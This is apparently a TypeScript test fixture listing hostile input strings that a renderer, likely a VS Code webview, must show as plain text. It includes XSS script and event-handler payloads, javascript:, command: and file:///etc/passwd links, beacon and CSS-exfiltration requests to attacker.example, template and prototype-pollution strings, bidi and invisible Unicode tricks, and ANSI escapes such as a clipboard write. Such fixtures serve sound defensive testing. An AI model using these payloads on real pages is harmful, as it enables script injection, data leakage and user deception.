const host = 'https://attacker.example';

/**
 * Texts that try to become something else: markup, scripts, links, requests, styles, commands, hidden or reordered
 * words, or simply too much. Every one must end up as words on the page.
 */
export const hostileTexts: readonly string[] = [
  ...scripts(),
  ...handlers(),
  ...links(),
  ...requests(),
  ...templates(),
  ...markdown(),
  ...invisible(),
  ...terminal(),
  ...oversized(),
];

function scripts(): string[] {
  const call = 'window.pwned=1';
  return [
    `<script>${call}</script>`,
    `<SCRIPT SRC=${host}/x.js></SCRIPT>`,
    `<script nonce="tEsTnOnCe">${call}</script>`,
    `<script type="module">import '${host}/x.js'</script>`,
    `</script><script>${call}</script>`,
    `</main></body></html><script>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<script\u0000>${call}</script>`,
    `<script/xss src="${host}/x.js">`,
    `<svg><script>${call}</script></svg>`,
    `<math><mtext><script>${call}</script></mtext></math>`,
    `<template><script>${call}</script></template>`,
    `<noscript><p title="</noscript><script>${call}</script>">`,
    `<style><script>${call}</script></style>`,
    `<title></title><script>${call}</script>`,
    `<textarea></textarea><script>${call}</script>`,
    `<!--><script>${call}</script>-->`,
    `<![CDATA[<script>${call}</script>]]>`,
    `<xmp><script>${call}</script></xmp>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `<script>eval(atob('d2luZG93LnB3bmVkPTE='))</script>`,
  ];
}

function handlers(): string[] {
  const tags = [
    'img src=x',
    'svg',
    'body',
    'details open',
    'video',
    'audio',
    'input autofocus',
    'marquee',
    'object data=x',
  ];
  const events = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onstart', 'onmouseover', 'onanimationstart'];
  return [
    ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="window.pwned=1">`)),
    '<a href=# onclick="window.pwned=1">click</a>',
    '<img src=x:alert(1) onerror=eval(src)>',
    '"><img src=x onerror=window.pwned=1>',
    "'><svg/onload=window.pwned=1>",
    '` onmouseover=window.pwned=1 x=`',
    '" autofocus onfocus="window.pwned=1" x="',
  ];
}

function links(): string[] {
  return [
    'javascript:window.pwned=1',
    'JaVaScRiPt:window.pwned=1',
    'java\tscript:window.pwned=1',
    'java\nscript:window.pwned=1',
    '\u0001javascript:window.pwned=1',
    '<a href="javascript:window.pwned=1">x</a>',
    '<a href="command:workbench.action.terminal.new">x</a>',
    'command:workbench.action.quit',
    '<a href="vscode://file/etc/passwd">x</a>',
    'vscode:extension/evil.evil',
    'vscode-webview://x/y',
    '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
    'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==',
    '<a href="file:///etc/passwd">x</a>',
    '<base href="https://attacker.example/">',
    '<a target=_top href="https://attacker.example">x</a>',
    '<form action="https://attacker.example"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<area href="javascript:window.pwned=1">',
  ];
}

function requests(): string[] {
  return [
    `<img src="${host}/pixel.png">`,
    `<img srcset="${host}/a.png 1x, ${host}/b.png 2x">`,
    `<picture><source srcset="${host}/a.png"><img></picture>`,
    `<link rel=stylesheet href="${host}/x.css">`,
    `<link rel=prefetch href="${host}/x">`,
    `<link rel=dns-prefetch href="//attacker.example">`,
    `<iframe src="${host}"></iframe>`,
    `<object data="${host}/x.swf"></object>`,
    `<embed src="${host}/x.swf">`,
    `<video poster="${host}/p.png" src="${host}/v.mp4">`,
    `<audio src="${host}/a.mp3" autoplay>`,
    `<svg><image href="${host}/x.png"/></svg>`,
    `<svg><use href="${host}/x.svg#a"/></svg>`,
    `<svg><foreignObject><img src="${host}/x"></foreignObject></svg>`,
    `<style>@import "${host}/x.css";</style>`,
    `<style>body{background:url(${host}/x.png)}</style>`,
    `<div style="background:url(${host}/x.png)">`,
    `<div style="position:fixed;inset:0;z-index:9999">covers all</div>`,
    `<style>main{display:none}</style>`,
    `<style>@font-face{font-family:x;src:url(${host}/f.woff)}*{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${host}/a)}</style>`,
    `<input type=image src="${host}/x.png">`,
    `<table background="${host}/x.png">`,
    `<body background="${host}/x.png">`,
    `<bgsound src="${host}/x">`,
  ];
}

function templates(): string[] {
  return [
    '{{constructor.constructor("window.pwned=1")()}}',
    '${window.pwned=1}',
    '#{window.pwned=1}',
    '<%= window.pwned=1 %>',
    '{%raw%}<script>window.pwned=1</script>{%endraw%}',
    '{"__proto__":{"pwned":1}}',
    '__proto__',
    'constructor',
    '[object Object]',
    'undefined',
    'null',
    'NaN',
    '<x-custom-element></x-custom-element>',
    '<vscode-button onclick="window.pwned=1">press</vscode-button>',
    '<slot name=content></slot>',
    '<div id="root"><main>another page</main></div>',
    '<article aria-posinset="1">a false turn</article>',
    '<dialog open>a false question</dialog>',
    ']]>',
    '-->',
    '*/',
    '");window.pwned=1;("',
    "'+window.pwned=1+'",
  ];
}

function markdown(): string[] {
  return [
    `![image](${host}/pixel.png)`,
    `![x](${host}/pixel.png "title")`,
    `[![x](${host}/a.png)](${host})`,
    '[click](javascript:window.pwned=1)',
    '[click](JAVASCRIPT:window.pwned=1)',
    '[click](java&#115;cript:window.pwned=1)',
    '[click](command:workbench.action.terminal.new)',
    '[click](vscode://file/etc/passwd)',
    '[click](data:text/html,<script>window.pwned=1</script>)',
    '[click](file:///etc/passwd)',
    '[ref]\n\n[ref]: javascript:window.pwned=1',
    '<https://attacker.example>',
    '<javascript:window.pwned=1>',
    '[a](<javascript:window.pwned=1>)',
    '[a](https://attacker.example "\\" onmouseover=\\"window.pwned=1")',
    '`<script>window.pwned=1</script>`',
    '```html\n<script>window.pwned=1</script>\n```',
    '```"><script>window.pwned=1</script>\n```',
    '<details open ontoggle=window.pwned=1>x</details>',
    '# <img src=x onerror=window.pwned=1>',
    '| a |\n| - |\n| <img src=x onerror=window.pwned=1> |',
    '> '.repeat(200) + 'deep',
    '*'.repeat(3000),
    '['.repeat(3000),
    `${'- '.repeat(100)}deep list`,
    '[toc]\n\n$$\\href{javascript:window.pwned=1}{x}$$',
    '\\<script>window.pwned=1\\</script>',
    '<!-- -->\n<script>window.pwned=1</script>',
    '1234567890. a list that begins late',
  ];
}

function invisible(): string[] {
  return [
    'user\u202egnp.exe',
    '\u202dleft\u202c',
    '\u2066isolated\u2069',
    '\u2067right\u2069 left',
    '\u2068first strong\u2069',
    '\u202a\u202a\u202a\u202aopen and never closed',
    '\u200fright mark',
    '\u061carabic mark',
    'שלום עולם <b>bold</b>',
    'مرحبا بالعالم 123 abc',
    'pay\u200bpal',
    'zero\u2060width\ufeffjoin',
    'soft\u00adhyphen',
    '\u2028line\u2029paragraph',
    '\u180emongolian',
    '\ufff9anchor\ufffaseparator\ufffbend',
    '\u{e0001}\u{e0041}tags',
    'a\u0000b',
    '\u0000',
    '\u0001\u0002\u0003\u0004\u0005\u0006\u0007',
    '\u007f\u0080\u009f',
    '\ud800',
    '\udc00',
    '\ud800\ud800\udc00',
    'ok\ud83d',
    '\ufffe\uffff',
    `e${'\u0301'.repeat(300)}`,
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
    '👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈',
    '\u115f\u1160\u3164\uffa0',
  ];
}

function terminal(): string[] {
  return [
    '\u001b[31mred\u001b[0m',
    '\u001b[2J\u001b[Hcleared',
    '\u001b]0;a title\u0007',
    '\u001b]8;;javascript:window.pwned=1\u001b\\link\u001b]8;;\u001b\\',
    '\u001b]52;c;cHduZWQ=\u0007',
    '\u001b[1;31;42;5;7mall at once',
    '\u001b[38;2;1;2;3mtrue colour',
    '\u001b[999999999mtoo large',
    '\u001b[;;;;;;;;;;m',
    '\u001b',
    '\u001b[',
    '\u001b]',
    '\u009b31mC1',
    '\u001bPdevice control\u001b\\',
    '\rover\rwritten',
    'back\b\b\bspace',
    '\u001b['.repeat(2000),
  ];
}

function oversized(): string[] {
  return [
    'x'.repeat(100_000),
    'W'.repeat(5000),
    '\n'.repeat(5000),
    '\t'.repeat(2000),
    ' '.repeat(20_000),
    'a '.repeat(50_000),
    '\u202e'.repeat(3000),
    '😀'.repeat(5000),
    `<${'b><'.repeat(5000)}`,
    '&'.repeat(5000),
  ];
}
